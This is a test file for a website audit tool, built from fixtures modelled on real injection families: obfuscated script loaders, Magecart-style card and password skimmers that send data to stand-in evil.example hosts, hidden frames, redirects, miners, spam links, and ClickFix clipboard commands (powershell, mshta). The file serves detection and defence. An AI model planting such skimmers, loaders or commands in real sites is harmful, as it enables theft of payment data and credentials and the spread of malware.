import assert from 'node:assert/strict';
import { auditSite } from '../../../../server/src/site/auditSite';
import { memoryDisk } from '../memoryDisk';
import {
  base64,
  codes,
  escaped,
  EVAL,
  EVIL,
  FRAME,
  hex,
  library,
  loader,
  page,
  percent,
  reversed,
  SCRIPT,
  WRITE,
} from './attackers';

type Files = Record<string, string>;

/** What an audit found in what visitors are sent, as `rule severity file`. */
async function found(files: Files): Promise<string[]> {
  const { findings } = await auditSite(memoryDisk({ 'index.html': page('<p>shop'), ...files }), '/site');
  return findings.map(({ rule, severity, places }) => `${rule} ${severity} ${places[0]?.file}`);
}

const inPage = (inside: string): Files => ({ 'a.html': page(inside) });
const inline = (code: string): Files => inPage(`<script>${code}</script>`);
const inLibrary = (code: string): Files => ({ 'a.js': `${library()}${code}` });

const links = (count: number, words: string): string =>
  Array.from(
    { length: count },
    (_, index) => `<a href="https://shop${index}.evil.example/">${words} ${index}</a>`,
  ).join(' ');

/** A turned list of texts, as packers of scripts write it. */
const PACKED = `;if(typeof nq0==="undefined"){(function(a,b){var c=d,e=a();while(!![]){try{var f=parseInt(c(0x1))/0x1+-parseInt(c(0x2))/0x2+parseInt(c(0x3))/0x3;if(f===b)break;else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(z,0x1));var nq0=true;}`;
const MADE_NAMES = Array.from(
  { length: 30 },
  (_, index) => `_0x${(index + 4096).toString(16)}=_0x1f00(0x${index})`,
).join(',');

const SKIMMER = (send: string): string =>
  `document.querySelector('#place').addEventListener('click',function(){var d={n:document.getElementById('cc_number').value,c:document.getElementById('cc_cid').value,e:document.getElementById('expiration').value};${send}});`;

/** Each way of putting something into a site that was seen in the field, made anew and harmless, and the finding on it. */
const FAMILIES: Record<string, { files: Files; finding: string }> = {
  // Balada Injector
  'a loader given by its characters': {
    files: inline(`${EVAL}(String.fromCharCode(${codes(loader(EVIL))}))`),
    finding: 'injected-script error a.html',
  },
  'an address given by its characters': {
    files: inLibrary(
      `var s=document.createElement('${SCRIPT}');s.src=String.fromCharCode(${codes(EVIL)});document.head.append(s)`,
    ),
    finding: 'injected-script error a.js',
  },
  'a loader called by apply': {
    files: inLibrary(`var l=[${codes(loader(EVIL))}];${EVAL}(String.fromCharCode.apply(null,l));`),
    finding: 'injected-script error a.js',
  },
  'characters moved by a number': {
    files: inLibrary(
      `var a=[${codes(loader(EVIL), (code) => code + 3)}],t='';for(var i=0;i<a.length;i++){t+=String.fromCharCode(a[i]-3)}${EVAL}(t);`,
    ),
    finding: 'injected-script error a.js',
  },
  // Sign1
  'an address turned by a key': {
    files: inLibrary(
      `const k=[${codes(EVIL, (code) => code ^ 21)}];const u=k.map(c=>String.fromCharCode(c^21)).join('');const s=document.createElement('${SCRIPT}');s.src=u;document.body.append(s);`,
    ),
    finding: 'injected-script error a.js',
  },
  'an address turned by a word': {
    files: inLibrary(
      `var k="key",x=atob("${base64(xor(EVIL, 'key'))}"),u="";for(var i=0;i<x.length;i++)u+=String.fromCharCode(x.charCodeAt(i)^k.charCodeAt(i%k.length));var s=document.createElement("${SCRIPT}");s.src=u;`,
    ),
    finding: 'injected-script error a.js',
  },
  'an address in hexadecimal behind a function': {
    files: inLibrary(
      `function h(x){var r='';for(var i=0;i<x.length;i+=2){r+=String.fromCharCode(parseInt(x.substr(i,2),16))}return r}var s=document.createElement('${SCRIPT}');s.src=h('${hex(EVIL)}');`,
    ),
    finding: 'injected-script error a.js',
  },
  'Base64 that is run': {
    files: inline(`${EVAL}(atob("${base64(loader(EVIL))}"))`),
    finding: 'injected-script error a.html',
  },
  'Base64 within Base64': {
    files: inline(`${EVAL}(atob("${base64(`${EVAL}(atob("${base64(loader(EVIL))}"))`)}"))`),
    finding: 'injected-script error a.html',
  },
  'Base64 in a function made of text': {
    files: inline(`new Function(atob("${base64(loader(EVIL))}"))()`),
    finding: 'injected-script error a.html',
  },
  'Base64 in a timer': {
    files: inline(`setTimeout(atob("${base64(loader(EVIL))}"),10)`),
    finding: 'injected-script error a.html',
  },
  'names of functions in hexadecimal': {
    files: inline(`window["${escaped(EVAL)}"](window["${escaped('atob')}"]("${base64(loader(EVIL))}"))`),
    finding: 'injected-script error a.html',
  },
  'a tag written by percent signs': {
    files: inline(`${WRITE}(unescape("${percent(`<${SCRIPT} src="${EVIL}"></${SCRIPT}>`)}"))`),
    finding: 'injected-script error a.html',
  },
  'a tag written backwards': {
    files: inline(`${WRITE}("${reversed(`<${SCRIPT} src='${EVIL}'></${SCRIPT}>`)}".split("").reverse().join(""))`),
    finding: 'injected-script error a.html',
  },
  'a tag with rubbish between its letters': {
    files: inline(`${WRITE}("${`<${SCRIPT} src='${EVIL}'></${SCRIPT}>`.split('').join('~')}".replace(/~/g,""))`),
    finding: 'injected-script error a.html',
  },
  'an address cut in two': {
    files: inLibrary(
      `var s=document.createElement('scr'+'ipt');s.src='ht'+'tps://stats.evil.example/a.js';document.head.append(s)`,
    ),
    finding: 'injected-script error a.js',
  },
  'letters of a page in a script': {
    files: inLibrary(
      `jQuery.getScript(jQuery("<p>").html("${EVIL.split('')
        .map((char) => `&#${char.charCodeAt(0)};`)
        .join('')}").text());`,
    ),
    finding: 'injected-script warning a.js',
  },
  // SocGholish
  'a loader that is given its hidden address': {
    files: inLibrary(
      `;(function(w,d,s,u){if(d.referrer.indexOf(w.location.host)>=0)return;var e=d.createElement(s);e.async=1;e.src=u;d.head.appendChild(e)})(window,document,'${SCRIPT}',atob('${base64(EVIL)}'));`,
    ),
    finding: 'injected-script error a.js',
  },
  // Pseudo-Darkleech
  'hidden code that runs what stands elsewhere': {
    files: inline(`${EVAL}(String.fromCharCode(${codes(`${EVAL}(document.getElementById('xq').innerHTML)`)}))`),
    finding: 'injected-script warning a.html',
  },
  'a script in an address of data': {
    files: inPage(`<script src="data:text/javascript;base64,${base64(loader(EVIL))}"></script>`),
    finding: 'injected-script warning a.html',
  },
  'code in the attribute of a picture': {
    files: inPage(`<img src=x onerror="${EVAL}(atob('${base64(loader(EVIL))}'))">`),
    finding: 'injected-script error a.html',
  },
  'the packer of Dean Edwards': {
    files: inline(
      `${EVAL}(function(p,a,c,k,e,d){return p}('4 0=1.2(\\'3\\');0.5=\\'6://7.8/9.b\\';',12,12,'s|document|createElement|${SCRIPT}|var|src|https|evil|example|a||js'.split('|'),0,{}))`,
    ),
    finding: 'injected-script warning a.html',
  },
  'a picture that is a program': {
    files: {
      'a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>${EVAL}(atob("${base64(`location.href='https://log-in.evil.example/'`)}"))</script></svg>`,
    },
    finding: 'script-redirect error a.svg',
  },
  'a template of a theme': {
    files: { 'theme/head.tpl': `<div><script>${EVAL}(atob("${base64(loader(EVIL))}"))</script></div>` },
    finding: 'injected-script error theme/head.tpl',
  },
  'the page of a program': {
    files: {
      'footer.php': `<?php wp_footer(); ?>\n<script>${EVAL}(atob("${base64(loader(EVIL))}"))</script></body></html>`,
    },
    finding: 'injected-script error footer.php',
  },
  'a text of a program': {
    files: {
      'functions.php': `<?php\nadd_action('wp_head', function () {\n  echo '<script>${EVAL}(atob("${base64(loader(EVIL))}"))</script>';\n});`,
    },
    finding: 'injected-script error functions.php',
  },
  'a script before the beginning of a page': {
    files: { 'a.html': `<script src="${EVIL}"></script>${page('')}` },
    finding: 'injected-script warning a.html',
  },
  'a script behind the end of a page': {
    files: { 'a.html': `${page('')}<script src="${EVIL}"></script>` },
    finding: 'injected-script warning a.html',
  },
  'a script behind a library': {
    files: { 'jquery.js': `/*! jQuery v3.7.1 | (c) OpenJS Foundation */\n${library()}${loader(EVIL)}` },
    finding: 'injected-script warning jquery.js',
  },
  'the same script behind several scripts': {
    files: {
      'a.js': `${library(3)}${loader(EVIL)}`,
      'b.js': `${library(4)}${loader(EVIL)}`,
      'c.js': `${library(5)}${loader(EVIL)}`,
    },
    finding: 'injected-script warning a.js',
  },
  // NDSW, Parrot TDS
  'a turned list behind a library': { files: inLibrary(PACKED), finding: 'injected-script warning a.js' },
  'made names behind a library': {
    files: inLibrary(`var ${MADE_NAMES};`),
    finding: 'injected-script warning a.js',
  },
  'an answer that is run for visitors from elsewhere': {
    files: inLibrary(
      `var x=new XMLHttpRequest();x.onload=function(){${EVAL}(x.responseText)};if(document.referrer&&document.cookie.indexOf('seen')<0){x.open('GET','/wp-content/a.php?id=1');x.send()}`,
    ),
    finding: 'injected-script error a.js',
  },
  'code of signs alone': {
    files: inline('[]'.padEnd(900, '[(![]+[])]+(!+[]')),
    finding: 'injected-script warning a.html',
  },
  // Frames
  'a frame of one pixel': {
    files: inPage(`<${FRAME} src="https://ads.evil.example/" width="1" height="1"></${FRAME}>`),
    finding: 'hidden-frame warning a.html',
  },
  'a frame that is not shown, behind the page': {
    files: { 'a.html': `${page('')}<${FRAME} src="//ads.evil.example/in.php" style="display:none"></${FRAME}>` },
    finding: 'hidden-frame error a.html',
  },
  'a frame in a block off the screen': {
    files: inPage(
      `<div style="position:absolute;left:-5000px"><${FRAME} src="http://198.51.100.7/x"></${FRAME}></div>`,
    ),
    finding: 'hidden-frame warning a.html',
  },
  'a frame that a script writes': {
    files: inLibrary(`${WRITE}('<${FRAME} src="https://ads.evil.example/" width=0 height=0></${FRAME}>');`),
    finding: 'hidden-frame warning a.js',
  },
  'a frame that a script writes in hexadecimal': {
    files: inLibrary(`${WRITE}("${escaped(`<${FRAME} src=https://ads.evil.example/></${FRAME}>`)}");`),
    finding: 'hidden-frame error a.js',
  },
  // Redirections
  'visitors from search engines': {
    files: inline(
      `var r=document.referrer;if(r.indexOf('google.')>0||r.indexOf('bing.')>0||r.indexOf('yahoo.')>0){window.location.href='https://drugs.evil.example/'}`,
    ),
    finding: 'script-redirect error a.html',
  },
  'visitors of a page of brands from search engines': {
    files: {
      'brand/1.html': page(
        `<h1>スーパーコピー 激安</h1><script>if(/google|yahoo|bing/i.test(document.referrer))location.replace("https://brand.evil.example/")</script>`,
      ),
    },
    finding: 'script-redirect error brand/1.html',
  },
  'visitors with telephones': {
    files: inLibrary(`if(/android|iphone|ipad/i.test(navigator.userAgent)){location.href="https://win.evil.example/"}`),
    finding: 'script-redirect warning a.js',
  },
  'a hidden target': {
    files: inLibrary(`window['location']['href']=atob('${base64('https://win.evil.example/')}');`),
    finding: 'script-redirect error a.js',
  },
  // Magecart
  'card data in the address of a picture': {
    files: inLibrary(SKIMMER(`new Image().src='https://cdn.evil.example/p.gif?d='+btoa(JSON.stringify(d));`)),
    finding: 'card-skimmer error a.js',
  },
  'card data by fetch': {
    files: inLibrary(SKIMMER(`fetch('https://cdn.evil.example/c',{method:'POST',body:JSON.stringify(d)});`)),
    finding: 'card-skimmer error a.js',
  },
  'card data by a beacon': {
    files: inLibrary(SKIMMER(`navigator.sendBeacon('https://cdn.evil.example/c',JSON.stringify(d));`)),
    finding: 'card-skimmer error a.js',
  },
  // Kritec
  'card data by a socket with a hidden address': {
    files: inLibrary(
      SKIMMER(`var w=new WebSocket(atob('${base64('wss://gtm.evil.example/s')}'));w.send(btoa(JSON.stringify(d)));`),
    ),
    finding: 'card-skimmer error a.js',
  },
  'all fields of the till': {
    files: inLibrary(
      `if(/onepage|checkout/.test(location.href)){var q='';document.querySelectorAll("input, select, textarea").forEach(function(f){q+=f.name+'='+f.value+'&'});var x=new XMLHttpRequest();x.open('POST','https://cdn.evil.example/c');x.send(q)}`,
    ),
    finding: 'card-skimmer warning a.js',
  },
  'passwords of a log-in page': {
    files: inline(
      `document.querySelector('input[type="password"]').onchange=function(){fetch('https://log.evil.example/?p='+encodeURIComponent(this.value))};`,
    ),
    finding: 'card-skimmer warning a.html',
  },
  // Miners
  'a miner': {
    files: inPage(`<script>var m=new CoinHive.Anonymous('abcdef');m.start();</script>`),
    finding: 'crypto-miner error a.html',
  },
  'a miner from its service': {
    files: inPage(`<script src="https://coinhive.com/lib/c.min.js"></script>`),
    finding: 'crypto-miner error a.html',
  },
  // Links
  'links off the screen': {
    files: inPage(`<div style="position:absolute;left:-9999px">${links(6, 'shoes')}</div>`),
    finding: 'hidden-links warning a.html',
  },
  'links to casinos that are not shown': {
    files: inPage(`<div style="display:none">${links(4, 'online casino')}</div>`),
    finding: 'hidden-links error a.html',
  },
  'links to copies of brands in a text without size': {
    files: inPage(`<p style="font-size:0px">${links(3, 'ブランドコピー 激安')}</p>`),
    finding: 'hidden-links error a.html',
  },
  'links in a running text without size': {
    files: inPage(`<marquee width="1" height="1">${links(8, 'shoes')}</marquee>`),
    finding: 'hidden-links warning a.html',
  },
  // Weebly
  'links that a script hides': {
    files: inPage(
      `<div id="wl">${links(6, 'shoes')}</div><script>document.getElementById('wl').style.display='none'</script>`,
    ),
    finding: 'hidden-links warning a.html',
  },
  'links that a style sheet hides': {
    files: inPage(`<style>.xq{position:absolute;top:-9999px}</style><div class="xq">${links(6, 'shoes')}</div>`),
    finding: 'hidden-links warning a.html',
  },
  // ClickFix, FakeUpdates
  'a command on the clipboard': {
    files: inline(`function go(){navigator.clipboard.writeText("powershell -w hidden -c something")}`),
    finding: 'fake-prompt error a.html',
  },
  'a command with instructions': {
    files: inPage(
      `<p>Press <b>Windows</b> + R, then Ctrl + V, then Enter.</p><script>var c='mshta https://robot.evil.example/';function go(){navigator.clipboard.writeText(c)}</script>`,
    ),
    finding: 'fake-prompt error a.html',
  },
};

describe('code put into pages and scripts', () => {
  for (const [name, { files, finding }] of Object.entries(FAMILIES)) {
    it(`finds ${name}`, async () => {
      const findings = await found(files);
      assert.ok(findings.includes(finding), `found ${findings.join(', ') || 'nothing'}`);
    });
  }

  it('tells of the same code in many files once', async () => {
    const code = `<script>${EVAL}(atob("${base64(loader(EVIL))}"))</script>`;
    const files = Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`p${index}.html`, page(code)]));
    const { findings } = await auditSite(memoryDisk(files), '/site');
    const injected = findings.filter(({ rule }) => rule === 'injected-script');
    assert.equal(injected.length, 1);
    assert.equal(injected[0]?.places.length, 9);
    assert.match(injected[0]?.title ?? '', /8 more files/);
  });

  it('says nothing of what leads to the site itself', async () => {
    const code = `${EVAL}(atob("${base64(loader('https://www.shop.example/a.js'))}"))`;
    const files = {
      'index.html': '<!DOCTYPE html><html><head><link rel="canonical" href="https://shop.example/"></head></html>',
      'a.js': `${library()}${code}`,
    };
    assert.deepEqual(await found(files), []);
  });

  it('gives the place and what hidden code says', async () => {
    const code = `${EVAL}(atob("${base64(loader(EVIL))}"))`;
    const { findings } = await auditSite(memoryDisk({ 'a.js': `var a = 1;\n  ${code};\n` }), '/site');
    const [finding] = findings;
    const [place] = finding?.places ?? [];
    assert.deepEqual([place?.line, place?.column, place?.endColumn], [2, 3, 3 + code.length]);
    assert.deepEqual(finding?.decoded, { text: loader(EVIL), truncated: false });
  });
});

function xor(text: string, key: string): string {
  return text
    .split('')
    .map((char, at) => String.fromCharCode(char.charCodeAt(0) ^ key.charCodeAt(at % key.length)))
    .join('');
}
